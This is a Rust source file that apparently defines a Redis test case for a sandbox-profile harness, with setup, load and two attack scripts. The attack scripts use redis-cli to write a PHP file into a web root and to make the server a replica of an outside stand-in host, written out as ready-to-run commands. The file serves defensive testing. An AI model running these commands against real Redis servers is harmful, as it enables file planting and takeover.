//! Redis as it is found open on the net: whoever may talk to it may tell it where to save, and whose copy to be.

use super::service::{Attack, Service};

pub static SERVICE: Service = Service {
    profile: "redis",
    executable: &["/usr/bin/redis-server", "/usr/bin/redis-check-rdb"],
    setup: r#"
mount -t tmpfs tmpfs /var/lib/redis
chown redis:redis /var/lib/redis
"#,
    server: "cd /var/lib/redis; exec setpriv --reuid=redis --regid=redis --init-groups /usr/bin/redis-server --port 6379 \
             --dir /var/lib/redis --enable-protected-configs yes --appendonly yes",
    ready: "timeout 2 redis-cli ping | grep -q PONG",
    load: "redis-benchmark -q -n 50000 -c 8 -t set,get,lpush,incr >/dev/null && redis-cli bgsave | grep -q started && \
           sleep 1 && redis-cli bgrewriteaof | grep -q started",
    attacks: &[
        Attack {
            what: "a page is written into the web root",
            kind: "write",
            plant: None,
            script: "sleep 1; redis-cli config set dir /var/www/html; redis-cli set page bad; redis-cli config set dbfilename page.php; \
                     redis-cli save; sleep 1; test -s /var/www/html/page.php",
        },
        Attack {
            what: "it becomes a copy of a server somewhere else",
            kind: "connect",
            plant: None,
            script: "redis-cli replicaof 203.0.113.7 8081; sleep 2; redis-cli replicaof no one; test -s /tmp/reached",
        },
    ],
};
